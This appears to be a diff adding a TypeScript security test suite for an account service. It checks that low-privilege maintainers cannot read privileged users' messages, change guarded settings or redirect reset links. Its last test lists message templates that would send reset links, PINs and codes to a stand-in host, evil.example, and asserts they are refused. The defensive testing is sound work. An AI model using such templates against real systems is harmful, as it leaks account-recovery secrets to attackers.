@@ -1,0 +1,291 @@
+// Attacks of administrators who hold `pages:maintenance` alone, on accounts that hold more: by messages, texts, links and factors.
+import assert from 'node:assert/strict';
+import { after, before, beforeEach, describe, it } from 'node:test';
+import { isMessageTemplate } from '../../src/delivery/index.ts';
+import { addSeconds } from '../../src/foundation/clock.ts';
+import { createTestAccounts } from '../support/accounts.ts';
+import { assertRefused } from '../support/answers.ts';
+import { ISSUER, type SentMessage, type TestService, USER_PASSWORD } from '../support/service.ts';
+import { type SetUp, setUps } from '../support/set-ups.ts';
+
+const API = '/api/services/app';
+const ORIGIN = 'https://app.example.com';
+const RESET = 'Latchkey.Messages.PasswordResetLink';
+const BASE = 'Latchkey.Links.BaseAddress';
+const SECRETS = ['pin', 'link', 'code'];
+/** Every role that holds more than a maintainer. */
+const ABOVE = ['Administrator', 'UserManager', 'HelpDesk', 'All'];
+
+for (const [name, start] of Object.entries(setUps)) {
+  describe(`attacks of maintainers on ${name}`, () => {
+    let setUp: SetUp;
+    let here: TestService;
+    let there: TestService;
+    let admin: string;
+    let maintainer: string;
+    let count = 0;
+    const fresh = (kind: string) => `${kind}${count}`;
+
+    before(async () => {
+      setUp = await start();
+      ({ here, there } = setUp);
+      admin = await here.admin();
+      await here.set('Shesha.Otp', { resendCooldown: 0, dailyLimitPerRecipient: 1000 });
+      await here.set('Latchkey.RateLimiting', { loginPermitLimit: 1000, otpPermitLimit: 1000 });
+      const roles = {
+        Maintainer: ['pages:maintenance'],
+        HelpDesk: ['users:resetPassword'],
+        Most: ['pages:maintenance', 'Pages.Users'],
+        All: ['pages:maintenance', 'Pages.Users', 'users:resetPassword'],
+        Clerk: ['Invoices.Read'],
+      };
+      for (const [role, grantedPermissions] of Object.entries(roles)) {
+        await here.post(`${API}/Role/Create`, { token: admin, body: { name: role, grantedPermissions } });
+      }
+      const accounts = await createTestAccounts(here);
+      maintainer = await accounts.open(await accounts.add(['Maintainer']));
+      await reload();
+    });
+    beforeEach(async () => {
+      count += 1;
+      await reload();
+      await here.deliver();
+      // The outbox lists the newest messages first.
+      here.clock.advance(1);
+    });
+    after(() => setUp.close());
+
+    /** Lets the other node read roles and settings at once. */
+    const reload = () => Promise.all([there.service.settings.load(), there.service.roles.load()]);
+    const update = (token: string, setting: string, value: unknown, appKey?: string) =>
+      there.post(`${API}/Settings/UpdateValue`, { token, body: { name: setting, value, appKey } });
+    const outbox = async (token: string, page: Record<string, number> = {}) =>
+      (await there.get(`${API}/Outbox/GetAll`, { token, query: { maxResultCount: 100, ...page } })).result;
+    async function create(kind: string, roleNames: string[], more: object = {}) {
+      const userName = fresh(kind).toLowerCase();
+      const emailAddress = `${userName}@example.org`;
+      const verified = { emailAddress, isEmailConfirmed: true, password: null };
+      const id = await here.createUser(userName, { ...verified, roleNames, ...more });
+      return { id, userName, emailAddress };
+    }
+    async function sendLink(username: string): Promise<SentMessage> {
+      assert.equal((await there.post(`${API}/User/SendEmailLink`, { body: { username } })).status, 200);
+      const [mail] = await here.deliver();
+      return mail ?? assert.fail(`no message for ${username}`);
+    }
+
+    it('the outbox shows no message of an account that holds more, whatever its roles became', async () => {
+      const plain = await create('plain', ['Clerk']);
+      const above = [];
+      for (const role of ABOVE) above.push(await create(`of${role}`, [role]));
+      const mine = await create('mine', ['Maintainer']);
+      for (const { userName } of [plain, ...above, mine]) await sendLink(userName);
+      const to = async (token: string) => (await outbox(token)).items.map((message) => message.to);
+      const seen = await to(maintainer);
+      assert.ok(seen.includes(plain.emailAddress) && seen.includes(mine.emailAddress));
+      for (const { emailAddress } of above) {
+        assert.ok(!seen.includes(emailAddress), emailAddress);
+        assert.ok((await to(admin)).includes(emailAddress));
+      }
+      const { totalCount } = await outbox(maintainer);
+      assert.equal(totalCount, seen.length, 'the total does not tell of them either');
+      const paged = [];
+      for (let skipCount = 0; skipCount < totalCount; skipCount += 1) {
+        paged.push((await outbox(maintainer, { skipCount, maxResultCount: 1 })).items[0]?.to);
+      }
+      assert.deepEqual(paged, seen);
+
+      const { items } = (await here.get(`${API}/Role/GetAll`, { token: admin, query: { keyword: 'Clerk' } })).result;
+      const change = (grantedPermissions: string[]) =>
+        here.send('PUT', `${API}/Role/Update`, { token: admin, body: { id: items[0]?.id, grantedPermissions } });
+      await change(['Invoices.Read', 'Pages.Users']);
+      assert.ok(!(await to(maintainer)).includes(plain.emailAddress), 'at once, on every node');
+      await change(['Invoices.Read']);
+      assert.ok((await to(maintainer)).includes(plain.emailAddress));
+    });
+
+    it('links, factors and the texts with a secret change with all permissions only', async () => {
+      const { definitions } = there.service.settings;
+      const guarded = definitions.filter(({ isGuarded }) => isGuarded);
+      const holdsSecret = definitions.filter(isMessageTemplate).filter(({ schema }) => {
+        const { 'x-placeholders': placeholders } = schema as unknown as { 'x-placeholders': object };
+        return Object.keys(placeholders).some((one) => SECRETS.includes(one));
+      });
+      const named = ['Latchkey.Factors', 'Latchkey.Factors.SecondFactor', 'Latchkey.Links', BASE];
+      assert.deepEqual(
+        guarded.map((one) => one.name).toSorted(),
+        [...named, ...holdsSecret.map((one) => one.name)].toSorted(),
+      );
+      assert.equal(holdsSecret.length, 7);
+      const accounts = await createTestAccounts(here);
+      const most = await accounts.open(await accounts.add(['Most']));
+      for (const token of [maintainer, most]) {
+        for (const { name: setting, default: initial } of guarded) {
+          const refused = await update(token, setting, initial);
+          assertRefused(refused, 403, 'permission.denied', setting);
+          assert.match(refused.error.details, /Pages\.Users, users:resetPassword/);
+          const body = { name: setting };
+          assertRefused(await there.post(`${API}/Settings/ResetValue`, { token, body }), 403, 'permission.denied');
+        }
+      }
+      const all = await accounts.open(await accounts.add(['All']));
+      for (const { name: setting, default: initial } of guarded) {
+        assert.equal((await update(all, setting, initial)).status, 200, setting);
+      }
+      assert.equal((await update(maintainer, 'Latchkey.Messages.PasswordChanged', { subject: 'Changed' })).status, 200);
+      const { result } = await there.get(`${API}/Settings/GetConfigurations`, { token: maintainer });
+      assert.deepEqual(
+        result.filter((one) => one.isGuarded).map((one) => one.name),
+        guarded.map((one) => one.name),
+      );
+      await here.post(`${API}/Settings/ResetValue`, {
+        token: admin,
+        body: { name: 'Latchkey.Messages.PasswordChanged' },
+      });
+    });
+
+    it('a front end with guarded values is neither renamed nor deleted', async () => {
+      const register = async (appKey: string) =>
+        (await here.post(`${API}/FrontEndApp/Create`, { token: admin, body: { appKey, name: appKey } })).result;
+      const [shop, plain] = [await register(fresh('shop')), await register(fresh('bare'))];
+      await here.set('Latchkey.Factors.SecondFactor', 'required', shop.appKey);
+      const rename = (frontEnd: typeof shop, appKey: string, token = maintainer) =>
+        there.send('PUT', `${API}/FrontEndApp/Update`, { token, body: { ...frontEnd, appKey } });
+      const remove = ({ id }: typeof shop, token = maintainer) =>
+        there.send('DELETE', `${API}/FrontEndApp/Delete`, { token, query: { id } });
+      assertRefused(await rename(shop, fresh('store')), 403, 'permission.denied');
+      assertRefused(await remove(shop), 403, 'permission.denied');
+      assert.equal((await rename(shop, shop.appKey)).status, 200);
+      assert.equal((await rename(plain, fresh('renamed'))).status, 200);
+      assert.equal((await remove(plain)).status, 200);
+      assert.equal((await rename(shop, fresh('store'), admin)).status, 200);
+      assert.equal((await remove(shop, admin)).status, 200);
+    });
+
+    it('accounts with permissions get the built-in text of every message, and the brand of Default UI', async () => {
+      const { service, clock } = here;
+      const templates = service.settings.definitions.filter(isMessageTemplate);
+      const secret = { pin: '{{pin}}', link: '{{link}}', code: '{{code}}' };
+      for (const template of templates) {
+        const { 'x-placeholders': known } = template.schema as unknown as { 'x-placeholders': Record<string, string> };
+        const all = Object.keys(known)
+          .filter((one) => one in secret)
+          .map((one) => `{{${one}}}`)
+          .join(' ');
+        const own = Object.keys(template.default).map((member) => [member, `Own text {{application}} ${all}`]);
+        await here.set(template.name, Object.fromEntries(own));
+      }
+      const body = { appKey: fresh('portal'), name: 'Portal' };
+      await here.post(`${API}/FrontEndApp/Create`, { token: admin, body });
+      await here.set('Latchkey.Brand', { name: 'Portal brand' }, body.appKey);
+      const secrets = { pin: '482913', link: `${ISSUER}/reset-password#code=x`, code: 'x' };
+      const send = async (roleNames: string[]) => {
+        clock.advance(1);
+        for (const template of templates) {
+          for (const means of ['sms', 'email'] as const) {
+            if (!((means === 'sms' ? 'sms' : 'text') in template.default)) continue;
+            const request = { template, means, to: means === 'sms' ? '+27821234567' : 'a@example.org' };
+            const values = { ...secrets, name: 'Ann', username: 'ann', minutes: '5', change: 'All.', left: '3' };
+            const expiresAt = addSeconds(clock.now(), 300);
+            await service.database.transaction((tx) =>
+              service.messages.queue(tx, {
+                ...{ ...request, account: { id: 1, roleNames }, values, frontEnd: body.appKey, expiresAt },
+              }),
+            );
+          }
+        }
+        return here.deliver();
+      };
+      const ordinary = await send(['Clerk']);
+      assert.ok(ordinary.length > templates.length);
+      for (const { text } of ordinary) assert.match(text, /^Own text Portal brand/);
+      for (const role of ['HelpDesk', 'Maintainer']) {
+        const messages = await send([role]);
+        assert.equal(messages.length, ordinary.length);
+        for (const { text, subject } of messages) {
+          assert.doesNotMatch(`${subject}${text}`, /Own text|Portal brand/);
+          assert.match(text, /Latchkey/);
+        }
+      }
+      for (const template of templates) {
+        await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: template.name } });
+      }
+    });
+
+    it('the links of accounts with permissions lead to the public URL, wherever those of Default UI lead', async () => {
+      await here.set('Latchkey.Links', { allowedOrigins: [ORIGIN] });
+      await here.set(BASE, ORIGIN, 'default-app');
+      await here.set(RESET, { text: `${ORIGIN}/own#{{code}} {{pin}}` });
+      await reload();
+      const plain = await create('plain', ['Clerk']);
+      assert.match((await sendLink(plain.userName)).text, /^https:\/\/app\.example\.com\/own#/);
+      const roles = [...ABOVE, 'Maintainer'];
+      for (const role of roles) {
+        const { userName } = await create(`of${role}`, [role]);
+        const { text } = await sendLink(userName);
+        assert.ok(text.includes(`${ISSUER}/reset-password#username=${userName}&code=`), text);
+        assert.doesNotMatch(text, /app\.example\.com/);
+      }
+      const invited = await create('invited', ['UserManager']);
+      await there.post(`${API}/User/SendInvitation`, { token: admin, body: { userId: invited.id } });
+      const [invitation] = await here.deliver();
+      assert.ok(invitation?.text.includes(`${ISSUER}/reset-password#`), invitation?.text ?? 'none');
+      const { userName } = await create('boss', ['Administrator'], { password: USER_PASSWORD });
+      await here.set('Latchkey.Messages.VerificationPin', { text: 'Own text {{pin}}' });
+      await reload();
+      const token = await there.signIn(userName);
+      const body = { currentPassword: USER_PASSWORD, emailAddress: `${fresh('other')}@example.org` };
+      await there.post(`${API}/User/ChangeMyAddress`, { token, body });
+      const [verification] = await here.deliver();
+      assert.match(verification?.text ?? '', /your pin to verify this e-mail address/);
+      for (const setting of [RESET, 'Latchkey.Messages.VerificationPin', 'Latchkey.Links']) {
+        await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: setting } });
+      }
+      await here.post(`${API}/Settings/ResetValue`, { token: admin, body: { name: BASE, appKey: 'default-app' } });
+    });
+
+    it('no text with a secret in a tag or another address is saved, nor sent if it was', async () => {
+      const evil = [
+        { html: '<img src="https://evil.example/?{{link}}">{{pin}}' },
+        { html: '<p title="{{code}}">{{pin}}</p>{{link}}' },
+        { html: '<a href="https://evil.example/?k={{code}}">Go</a> {{pin}}' },
+        { html: '<a href="{{link}}">Go</a> <img src=\'https://evil.example/?{{pin}}\'>' },
+        { text: 'https://evil.example/?k={{code}} {{pin}}' },
+        { text: 'evil.example/{{pin}} {{link}}' },
+        { text: `${ORIGIN}/#{{code}} {{pin}}` },
+      ];
+      const { sql } = here.service.database;
+      const plain = await create('plain', []);
+      const expected = (await sendLink(plain.userName)).text;
+      for (const value of evil) {
+        const [member = ''] = Object.keys(value);
+        const refused = await update(admin, RESET, value);
+        assertRefused(refused, 400, 'request.invalid', value);
+        assert.deepEqual(refused.error.validationErrors?.[0]?.members, [member]);
+        const { default: words } = here.service.settings.find(RESET);
+        const stored = JSON.stringify({ ...Object(words), ...value });
+        const row = { name: RESET, app_key: '', value: stored, changed_at: here.clock.now(), changed_by: null };
+        await sql.insertInto('setting_value').values(row).execute();
+        await here.service.settings.load();
+        await reload();
+        const mail = await sendLink(plain.userName);
+        const { items } = await outbox(admin);
+        const html = items.find(({ id }) => id === mail.id)?.html ?? '';
+        assert.doesNotMatch(mail.text + html, /evil\.example|app\.example\.com|title=/);
+        assert.equal(
+          mail.text.replace(/code=\S+/, '').replace(/\d{6}/, ''),
+          expected.replace(/code=\S+/, '').replace(/\d{6}/, ''),
+        );
+        await sql.deleteFrom('setting_value').where('name', '=', RESET).execute();
+      }
+      await here.set('Latchkey.Links', { allowedOrigins: [ORIGIN] });
+      await reload();
+      const own = { text: `${ORIGIN}/#{{code}} {{pin}}`, html: `<a href="${ORIGIN}/#{{code}}">Go</a> {{pin}}` };
+      assert.equal((await update(admin, RESET, own)).status, 200);
+      assert.match((await sendLink(plain.userName)).text, /^https:\/\/app\.example\.com\/#/);
+      await here.set('Latchkey.Links', { allowedOrigins: [] });
+      await reload();
+      assert.ok((await sendLink(plain.userName)).text.includes(`${ISSUER}/reset-password#`), 'a withdrawn origin');
+    });
+  });
+}
